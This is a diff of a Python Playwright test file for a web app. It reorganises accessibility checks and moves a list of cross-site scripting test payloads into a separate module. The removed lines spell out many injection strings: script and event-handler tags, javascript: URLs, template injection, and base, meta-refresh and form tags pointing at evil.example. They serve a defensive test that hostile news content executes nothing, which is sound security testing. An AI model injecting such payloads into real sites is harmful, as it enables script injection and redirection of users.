@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
 from contextlib import contextmanager
 from datetime import timedelta
 from itertools import cycle
@@ -10,11 +10,13 @@ from pathlib import Path
 from urllib.parse import urlencode
 
 import pytest
+from axe_playwright_python.base import AxeResults
 from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, sync_playwright
 
 from bot.app import clock
 from bot.model import Entry, FeedId, OutletId
+from tests.web.attacks import BY_HAND, PAYLOADS
 from tests.web.desks import BROWSER_PATIENCE, CHROMIUM_ARGUMENTS, DeskProcess, chromium, desk_process, installation
 
 pytestmark = pytest.mark.timeout(1800)
@@ -39,69 +41,24 @@ COLOURFUL = ("/", "/search?q=Orbrecht", "/search?q=Orbrecht+UND", "/rules/orbrec
 COLOURS: dict[str, object] = {"runOnly": ["color-contrast"]}
 """Most of what a look costs."""
 BUT_COLOURS: dict[str, object] = {"rules": {"color-contrast": {"enabled": False}}}
-LOOKS = [
-    pytest.param("light", 1280, PAGES, BUT_COLOURS, id="light 1280"),
-    pytest.param("light", 320, PAGES, BUT_COLOURS, id="light 320"),
-    pytest.param("light", 1280, COLOURFUL, COLOURS, id="light 1280, colours"),
-    pytest.param("dark", 1280, COLOURFUL, COLOURS, id="dark 1280, colours"),
-    # Colours do not depend on the width, nor widths on the colours: what can go wrong is in the four before.
-    *(
-        pytest.param(scheme, width, PAGES, COLOURS, id=f"{scheme} {width}, all colours", marks=pytest.mark.slow)
-        for scheme in ("light", "dark")
-        for width in (320, 1280)
-    ),
-]
-ALERT = "window.__executed = (window.__executed || 0) + 1"
-BY_HAND = [
-    f"<script>{ALERT}</script>",
-    f'"><img src=x onerror="{ALERT}">',
-    f"'><svg onload='{ALERT}'>",
-    f"javascript:{ALERT}",
-    f"</title><script>{ALERT}</script>",
-    f"</textarea><script>{ALERT}</script>",
-    f"</pre></option></select><iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>",
-    f"<a href='javascript:{ALERT}' autofocus onfocus='{ALERT}'>x</a>",
-    "{{ 7 * 7 }}{% raw %}",
-    "<style>*{display:none}</style>",
-    "<base href='https://evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "</mark></p></li></ol></main><form action='https://evil.example'><button>",
-    "\u202egpj.exe\u202c", "a" * 3000, "؀" * 50, "\x00\x08\x1f", "&lt;script&gt;", "%3Cscript%3E", "\ud7ff\uffff",
-]  # fmt: skip
-_BREAKS = (
-    "",
-    '"',
-    "'",
-    "`",
-    "-->",
-    "]]>",
-    "</title>",
-    "</textarea>",
-    "</pre>",
-    "</option></select>",
-    "</svg>",
-    "*/",
-    "\n\n",
-)
-_ATTACKS = (
-    f"<script>{ALERT}</script>",
-    f"<scr<script>ipt>{ALERT}</script>",
-    f"<img src=x onerror={ALERT}>",
-    f"<svg/onload={ALERT}>",
-    f"<svg><script>{ALERT}</script></svg>",
-    f"<math><mtext><img src=x onerror={ALERT}></mtext></math>",
-    f"<details open ontoggle={ALERT}>x</details>",
-    f"<video><source onerror={ALERT}></video>",
-    f"<input autofocus onfocus={ALERT}>",
-    f"<iframe src=javascript:parent.{ALERT}></iframe>",
-    f"<object data='data:text/html,<script>{ALERT}</script>'></object>",
-    f"<form><button formaction=javascript:{ALERT}>x</button></form>",
-    f"<style>@import 'javascript:{ALERT}';</style>",
-    f" onmouseover={ALERT} style=animation-name:x ",
-    f"{{{{constructor.constructor('{ALERT}')()}}}}",
-)
-PAYLOADS = [*BY_HAND, *(f"{before}>{attack}" for before in _BREAKS for attack in _ATTACKS)]
-"""200 and more: what breaks out of a text, an attribute, an element, and what it would do then."""
+OF_WIDTH: dict[str, object] = {"runOnly": ["scrollable-region-focusable", "target-size", "meta-viewport"]}
+"""What may hold on a wide screen and not on a narrow one."""
+Look = tuple[str, int, Mapping[str, object]]
+"""Colours, width of the screen, what is looked for."""
+
+
+def few_looks(path: str) -> Iterator[Look]:
+    """Colours do not depend on the width, nor much besides widths on it: what can go wrong, at one visit."""
+    yield "light", 1280, {} if path in COLOURFUL else BUT_COLOURS
+    if path in COLOURFUL:
+        yield "dark", 1280, COLOURS
+    yield "light", 320, OF_WIDTH
+
+
+def all_looks(path: str) -> Iterator[Look]:
+    for scheme in ("light", "dark"):
+        for width in (320, 1280):
+            yield scheme, width, {}
 
 
 @pytest.fixture(scope="module")
@@ -141,22 +98,25 @@ def opened(
         context.close()
 
 
-@pytest.mark.parametrize(("scheme", "width", "paths", "rules"), LOOKS)
+@pytest.mark.parametrize("looks", [few_looks, pytest.param(all_looks, marks=pytest.mark.slow)])
 def test_every_page_is_for_everybody(
-    browser: Browser, desk: DeskProcess, scheme: str, width: int, paths: Sequence[str], rules: dict[str, object]
+    browser: Browser, desk: DeskProcess, looks: Callable[[str], Iterable[Look]]
 ) -> None:
     complaints: list[str] = []
-    axe = Axe()
-    size = {"width": width, "height": 800}
-    with opened(browser, complaints, color_scheme=scheme, viewport=size, bypass_csp=True) as (_, page):
-        for path in paths:
+    script = Axe().axe_script
+    with opened(browser, complaints, bypass_csp=True) as (_, page):
+        for path in PAGES:
             page.goto(desk.url + path)
-            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), (
-                f"{path} is wider than the screen"
-            )
-            # A list of all that is right would take long.
-            found = axe.run(page, options={"resultTypes": ["violations"], **rules})
-            assert found.violations_count == 0, f"{path}: {found.generate_report()}"
+            page.evaluate(script)
+            for scheme, width, rules in looks(path):
+                page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]  # one of its words
+                page.set_viewport_size({"width": width, "height": 800})
+                where = f"{path}, {scheme}, {width} pixels"
+                assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{where}: wider than that"
+                # A list of all that is right would take long.
+                response = page.evaluate("options => axe.run(options)", {"resultTypes": ["violations"], **rules})
+                found = AxeResults(response)
+                assert found.violations_count == 0, f"{where}: {found.generate_report()}"
     assert complaints == []
 
 
@@ -340,7 +300,7 @@ def test_hostile_news_execute_nothing_and_break_no_page(browser: Browser, hostil
 @pytest.mark.parametrize(
     "payloads",
     [
-        pytest.param(BY_HAND[::2], id="few"),
+        pytest.param(BY_HAND[::3], id="few"),
         pytest.param(PAYLOADS, id="all", marks=[pytest.mark.slow, pytest.mark.timeout(3600)]),
     ],
 )
